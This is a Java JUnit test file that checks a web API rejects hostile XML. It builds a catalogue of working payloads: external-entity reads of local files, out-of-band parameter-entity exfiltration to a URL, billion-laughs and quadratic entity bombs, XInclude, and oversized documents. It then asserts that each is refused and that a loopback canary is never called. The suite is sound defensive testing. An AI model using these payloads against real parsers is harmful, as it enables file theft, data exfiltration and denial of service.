package io.meltemi.webapp.checklist;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/** No XML makes the broker open a file, call an address, or work without bounds. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class Checklist15XmlTest {
  private static final String SECRET = "the canary's own words";

  /** The promise: the median of what follows the first, on a machine that is free for it. */
  private static final Duration BOUND = Duration.ofMillis(100);

  /** Requests that the median is of, and how many may pass until the machine was free so long. */
  private static final int IN_A_ROW = 7;

  private static final int AT_MOST = 70;

  @TempDir static Path folder;

  private final Town town = new Town();
  private final AtomicInteger calls = new AtomicInteger();
  private ServerSocket canary;
  private Path file;
  private Process fifo;

  @BeforeAll
  void lay() throws IOException, InterruptedException {
    canary = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    Thread.ofVirtual().start(this::count);
    file = Files.writeString(folder.resolve("canary.txt"), SECRET);
    Path pipe = folder.resolve("pipe");
    assertThat(new ProcessBuilder("mkfifo", pipe.toString()).start().waitFor()).isZero();
    fifo = new ProcessBuilder("sh", "-c", "exec cat " + file + " > " + pipe).start();
  }

  private void count() {
    try {
      while (true) {
        canary.accept().close();
        calls.incrementAndGet();
      }
    } catch (IOException e) {
      assertThat(canary.isClosed()).isTrue();
    }
  }

  @AfterAll
  void close() throws IOException {
    town.close();
    canary.close();
    fifo.destroyForcibly();
  }

  private Map<String, String> vectors(String face) {
    String net = "http://127.0.0.1:" + canary.getLocalPort() + "/";
    String disk = "file://" + file;
    String pipe = "file://" + folder.resolve("pipe");
    String open = "<MachineConfigurationCreate xmlns=\"http://schemas.dmtf.org/cimi/" + face + "\"";
    String close = "</MachineConfigurationCreate>";
    Map<String, String> all = new LinkedHashMap<>();
    all.put("external entity, file", doc("<!ENTITY x SYSTEM '" + disk + "'>", open, "&x;"));
    all.put("external entity, pipe", doc("<!ENTITY x SYSTEM '" + pipe + "'>", open, "&x;"));
    all.put("external entity, net", doc("<!ENTITY x SYSTEM '" + net + "x'>", open, "&x;"));
    all.put("public entity", doc("<!ENTITY x PUBLIC 'p' '" + net + "p'>", open, "&x;"));
    all.put("parameter entity", doc("<!ENTITY % p SYSTEM '" + net + "pe'> %p;", open, "n"));
    all.put(
        "parameter entity that sends a file",
        doc(
            "<!ENTITY % f SYSTEM '%s'><!ENTITY %% e \"<!ENTITY s SYSTEM '%s?%%f;'>\"> %%e;"
                .replace("%s'><", disk + "'><")
                .replace("'%s?", "'" + net + "?"),
            open,
            "&s;"));
    all.put("external subset", "<!DOCTYPE a SYSTEM '" + net + "dtd'>" + open + ">" + close);
    all.put("internal entity", doc("<!ENTITY x 'y'>", open, "&x;"));
    all.put("a thousand million laughs", doc(laughs(), open, "&l9;"));
    all.put(
        "quadratic", doc("<!ENTITY x '" + "y".repeat(50_000) + "'>", open, "&x;".repeat(10_000)));
    all.put(
        "XInclude",
        open
            + " xmlns:xi=\"http://www.w3.org/2001/XInclude\"><name><xi:include href=\""
            + disk
            + "\" parse=\"text\"/></name>"
            + close);
    all.put("deep", open + ">" + "<a>".repeat(5000) + "</a>".repeat(5000) + close);
    all.put("many attributes", open + attributes(20_000) + ">" + close);
    all.put("a long name", open + "><" + "n".repeat(100_000) + "/>" + close);
    all.put("many elements", open + ">" + "<name/>".repeat(30_000) + close);
    all.put("another encoding", "<?xml version=\"1.0\" encoding=\"UTF-7\"?>" + open + ">" + close);
    return all;
  }

  private static String doc(String subset, String open, String text) {
    return "<?xml version=\"1.0\"?><!DOCTYPE a ["
        + subset
        + "]>"
        + open
        + "><name>"
        + text
        + "</name></MachineConfigurationCreate>";
  }

  private static String laughs() {
    StringBuilder subset = new StringBuilder("<!ENTITY l0 'lol'>");
    for (int at = 1; at <= 9; at++) {
      String before = "&l" + (at - 1) + ";";
      subset.append("<!ENTITY l" + at + " '" + before.repeat(10) + "'>");
    }
    return subset.toString();
  }

  private static String attributes(int number) {
    StringBuilder all = new StringBuilder();
    for (int at = 0; at < number; at++) all.append(" a").append(at).append("='1'");
    return all.toString();
  }

  @Test
  void everyVectorIsRefusedAtOnceAndTouchesNothing() {
    for (String face : new String[] {"1", "2"}) {
      vectors(face)
          .forEach((name, body) -> {
            List<Duration> took = new ArrayList<>();
            do {
              took.add(refusal("cimi/" + face + "/machineConfigs", name, body));
            } while (took.size() < AT_MOST && !isQuick(took));
            assertThat(isQuick(took)).as(name + " took " + took).isTrue();
          });
    }
    assertThat(calls.get()).as("calls to the canary").isZero();
    assertThat(fifo.isAlive()).as("nobody opened the pipe").isTrue();
  }

  private static boolean isQuick(List<Duration> took) {
    if (took.size() <= IN_A_ROW) return false;
    List<Duration> last = took.subList(took.size() - IN_A_ROW, took.size());
    return last.stream().sorted().toList().get(IN_A_ROW / 2).compareTo(BOUND) <= 0;
  }

  private Duration refusal(String where, String name, String body) {
    long begin = System.nanoTime();
    HttpResponse<String> answer =
        town.owner.send("POST", where, body, "Content-Type", "application/xml");
    Duration took = Duration.ofNanos(System.nanoTime() - begin);
    assertThat(answer.statusCode()).as(name + " " + answer.body()).isIn(400, 413);
    assertThat(answer.body()).as(name).doesNotContain(SECRET).doesNotContain("lollol");
    return took;
  }

  /** What a schema or a style sheet is said to be is never fetched, also where the rest is good. */
  @Test
  void hintsInAGoodDocumentAreNotFollowed() {
    String net = "http://127.0.0.1:" + canary.getLocalPort() + "/";
    String body =
        ("<?xml version=\"1.0\"?><?xml-stylesheet href=\"%s\" type=\"text/xsl\"?>"
                + "<MachineConfigurationCreate xmlns=\"http://schemas.dmtf.org/cimi/2\""
                + " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
                + " xsi:schemaLocation=\"http://schemas.dmtf.org/cimi/2 %s\"><name>good</name>"
                + "<cpu>1</cpu><memory>1024</memory></MachineConfigurationCreate>")
            .formatted(net, net);
    HttpResponse<String> answer =
        town.owner.send(
            "POST",
            "cimi/2/machineConfigs",
            new String(body.getBytes(UTF_8), UTF_8),
            "Content-Type",
            "application/xml");
    assertThat(answer.statusCode()).as(answer.body()).isEqualTo(201);
    assertThat(calls.get()).isZero();
  }
}
